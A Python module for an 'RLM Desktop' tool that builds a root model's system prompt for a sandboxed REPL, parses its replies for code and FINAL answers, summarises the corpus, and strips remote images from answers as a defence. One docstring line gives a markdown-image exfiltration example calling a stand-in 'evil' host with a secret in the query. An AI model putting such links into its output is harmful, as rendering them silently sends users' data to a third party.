"""What the root model is told, and how its replies are read.

The system prompt is ours and versioned (PROMPT_VERSION is recorded on every run node). It
teaches the REPL API and a strategy; the corpus itself never enters the prompt, only a
compact description of it.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

PROMPT_VERSION = "rlm-desktop-root-v1"
ROOT_MARKER = "You are the root model of RLM Desktop"

SYSTEM_PROMPT = f"""{ROOT_MARKER} ({PROMPT_VERSION}). You answer a question about a \
corpus of documents that you cannot see directly. The corpus lives in a Python REPL as the \
variable `context`; you explore it by writing code, and you may hand pieces of it to child \
language models.

Write code in fenced blocks marked ```repl. Each block runs in the REPL, in order; variables \
persist between turns. You see only what the code prints, cut to about {{output_chars}} \
characters per turn, so print summaries and counts, not whole documents.

The REPL gives you:
- `context`: the documents, a sequence. `len(context)`, `context[i]`, `context["name"]`, \
iterate. Each document has `.id .name .path .kind` ("pdf", "docx", "email", "log", "text", \
...), `.text` (str) and `.meta` (dict: pages, subject, from, to, date, ...).
- `peek(target=None, start=0, length=2000) -> str`: text of a document (object, index or \
name), a hit, a chunk, or the whole corpus when target is None.
- `grep(pattern, target=None, *, ignore_case=False, max_hits=None) -> list[Hit]`: Python \
regex, one Hit per matching line, in corpus order. A Hit has `.doc .line .page .text .start \
.end`.
- `partition(target=None, *, parts=None, size=None, by="chars") -> list[Chunk]`: by is \
"chars", "lines", "pages", "messages" or "documents". A Chunk is a str that remembers where \
it came from (`.sources`).
- `llm_query(prompt) -> str`: ask a child model about text you pass in the prompt (it can \
read about 100,000 characters well). It sees nothing but the prompt.
- `llm_query_batched(prompts) -> list[str]`: many child calls in parallel, answers in order. \
Much faster than a loop of llm_query. A failed item comes back as a string starting with \
"[error".
- `rlm_query(question, target=None) -> str`: a child that explores `target` (documents, \
chunks or hits) with its own REPL, like you. Use it for sub-questions that need exploring, \
not for simple reading.
- `FINAL(answer, sources=None)`: end with this answer. `sources` are the hits, chunks or \
documents that support it: they become the citations the user checks, so pass them.
- `FINAL_VAR(name)`: end with the value of the REPL variable called `name`.
The REPL is sandboxed. `re`, `json`, `math` and `collections` are already imported; you may \
also import statistics, itertools, functools, datetime, textwrap, difflib, unicodedata, \
bisect, heapq, string, random, operator, fractions, decimal, calendar, time, typing, pprint \
and nothing else. Ordinary Python works: f-strings, comprehensions, lambdas, functions, \
try/except, `x += 1`, `d[k] = v`, str/list/dict methods. Not available: files (`open`), \
network, processes, `eval`/`exec`/`compile`, `getattr`/`setattr`/`vars`/`globals`/`type`/`dir`, \
and any name or attribute starting with `_`.

Strategy:
1. Look before reading: print len(context), the kinds, a few names, and peek at a sample.
2. Narrow with grep; count and list with code, not by eye. Code is exact; models are not.
3. For judgement over many pieces (classify, extract, summarise), partition or collect the \
pieces and call llm_query_batched once over all of them; keep each prompt self-contained.
4. Keep your own context small: print counts and short samples, store the rest in variables.
5. Answer questions of "how many", "list all" and "who/when" from data you collected in \
variables, and check the total before answering.
6. Finish with FINAL(answer, sources=...) inside a ```repl block, citing the hits or chunks \
that support the answer. Answer in the language of the question.
"""

# Any fenced block: the language tag decides whether it is code for the REPL.
_FENCE = re.compile(r"^[ \t]*```[ \t]*([\w+.-]*)[^\n]*\n(.*?)^[ \t]*```[ \t]*$", re.M | re.S)
_CODE_TAGS = frozenset({"repl", "python", "py", "python3", "py3"})
_FINAL_START = re.compile(r"^[ \t>*_]*(FINAL_VAR|FINAL)\(", re.M)


@dataclass(frozen=True, slots=True)
class Reply:
    """A root model reply, read: its code blocks, and a FINAL written outside code.

    `final_args` is the text between the parentheses of FINAL(...) (for FINAL_VAR, the
    variable name, unquoted): the engine first tries it as Python in the REPL, so
    `FINAL("3 errors", sources=hits)` keeps its citations, and falls back to the text.
    """

    code_blocks: tuple[str, ...]
    final_args: str | None = None   # FINAL(...) outside a code block
    final_var: str | None = None    # FINAL_VAR(name) outside a code block
    prose: str = ""                 # the reply without its fenced blocks

    @property
    def final_text(self) -> str | None:
        """FINAL's argument as plain text (quotes removed), for when it is not Python."""
        return None if self.final_args is None else _unquote(self.final_args.strip())


def parse_reply(text: str) -> Reply:
    text = text.replace("\r\n", "\n")
    blocks = []
    for match in _FENCE.finditer(text):
        tag = match.group(1).lower()
        body = match.group(2)
        if tag in _CODE_TAGS or (not tag and _looks_like_code(body)):
            blocks.append(body)
    prose = _FENCE.sub("", text).strip()
    final_args = final_var = None
    found = _FINAL_START.search(prose)
    if found:
        args = _balanced(prose, found.end())
        if args is not None:
            if found.group(1) == "FINAL_VAR":
                name = _unquote(args.strip())
                if name.isidentifier():
                    final_var = name
            else:
                final_args = args
    return Reply(tuple(blocks), final_args, final_var, prose)


def _balanced(text: str, start: int) -> str | None:
    """The text from `start` up to the parenthesis that closes the one before it, skipping
    brackets inside string literals; None when it never closes."""
    depth, quote, i = 1, "", start
    while i < len(text):
        char = text[i]
        if quote:
            if char == "\\":
                i += 1
            elif text.startswith(quote, i):
                i += len(quote) - 1
                quote = ""
        elif text.startswith(('"""', "'''"), i):
            quote = text[i:i + 3]
            i += 2
        elif char in "\"'":
            quote = char
        elif char in "([{":
            depth += 1
        elif char in ")]}":
            depth -= 1
            if depth == 0:
                return text[start:i]
        i += 1
    return None


def _looks_like_code(body: str) -> bool:
    return bool(re.search(r"\b(print|grep|peek|partition|llm_query|FINAL)\s*\(", body))


def _unquote(answer: str) -> str:
    for quote in ('"""', "'''", '"', "'"):
        if len(answer) >= 2 * len(quote) and answer.startswith(quote) and answer.endswith(quote):
            return answer[len(quote):-len(quote)]
    return answer


def system_prompt(output_chars: int) -> str:
    return SYSTEM_PROMPT.replace("{output_chars}", f"{output_chars:,}")


def describe_corpus(docs: Sequence[dict[str, Any]], *, sample: int = 8) -> str:
    """Document count, kinds, total characters and a few names with sizes; never the text."""
    total = sum(int(d.get("chars", 0)) for d in docs)
    kinds = Counter(str(d.get("kind", "?")) for d in docs)
    kind_text = ", ".join(f"{k} {n:,}" for k, n in kinds.most_common())
    lines = [f"The corpus (`context`) holds {len(docs):,} document"
             f"{'' if len(docs) == 1 else 's'} ({kind_text}), {total:,} characters in all "
             f"(about {total // 4:,} tokens)."]
    if docs:
        lines.append("Some of them:")
        shown = _spread(len(docs), sample)
        for i in shown:
            d = docs[i]
            extra = []
            if d.get("pages"):
                extra.append(f"{d['pages']} pages")
            extra.append(f"{int(d.get('chars', 0)):,} chars")
            lines.append(f"  [{i}] {d.get('name')} ({d.get('kind')}, {', '.join(extra)})")
        if len(docs) > len(shown):
            lines.append(f"  ... and {len(docs) - len(shown):,} more")
    return "\n".join(lines)


def _spread(n: int, k: int) -> list[int]:
    """Up to k indices spread across 0..n-1: the first few and some from further on."""
    if n <= k:
        return list(range(n))
    head = list(range(k // 2))
    step = (n - 1 - head[-1]) / (k - len(head))
    tail = [min(n - 1, round(head[-1] + step * (i + 1))) for i in range(k - len(head))]
    return sorted(set(head + tail))


def first_message(question: str, corpus_description: str) -> str:
    return (f"Question: {question}\n\n{corpus_description}\n\n"
            "Explore the corpus in the REPL and answer the question. Start by looking at it.")


NUDGE = ("Your reply had no ```repl code block and no FINAL. Write code to continue, "
         "or answer with FINAL(answer, sources=...).")


LAST_CHANCE = ("You have reached the limit of turns. Do not write more code. Give your best "
               "final answer now from what you have found, as FINAL(your answer).")


def truncate(text: str, limit: int) -> str:
    if len(text) <= limit:
        return text
    head = text[: limit * 3 // 4]
    tail = text[-(limit // 4):]
    cut = len(text) - len(head) - len(tail)
    return f"{head}\n[... {cut:,} characters cut; print less, or store results in " \
           f"variables ...]\n{tail}"


_REMOTE_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?((?:[a-zA-Z][\w+.-]*:)?//[^)\s>]*)>?[^)]*\)")
_HTML_IMAGE = re.compile(r"<\s*img\b[^>]*>", re.I)


def neutralise_answer(answer: str) -> tuple[str, int]:
    """Remote images in an answer are an exfiltration channel (a viewer that renders
    `![x](http://evil/?q=<secret>)` sends the secret by loading it): turn them into inert
    text that still shows the address. Returns the text and how many were changed."""
    count = 0

    def image(match: re.Match[str]) -> str:
        nonlocal count
        count += 1
        alt = match.group(1).strip()
        return f"{alt + ' ' if alt else ''}[remote image removed: {match.group(2)}]"

    def html(match: re.Match[str]) -> str:
        nonlocal count
        count += 1
        return "[remote image removed]"

    answer = _REMOTE_IMAGE.sub(image, answer)
    answer = _HTML_IMAGE.sub(html, answer)
    # Whatever image syntax is left (reference-style `![x][1]`, brackets inside the alt
    # text) becomes a plain link: shown, never loaded by itself.
    rest = answer.count("![")
    if rest:
        count += rest
        answer = answer.replace("![", "[")
    return answer, count
